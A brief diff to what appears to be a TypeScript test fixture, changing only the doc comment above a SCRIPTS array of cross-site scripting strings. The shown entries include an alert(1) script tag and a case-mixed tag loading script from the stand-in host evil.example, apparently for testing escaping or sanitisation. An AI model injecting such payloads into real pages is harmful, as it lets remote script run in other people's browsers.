@@ -1,4 +1,4 @@
-/** Texts that run, or try to, wherever one of them is taken for more than a text. */
+/** Texts that run, or try to, wherever one of them is taken for code or markup. */
 export const SCRIPTS: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
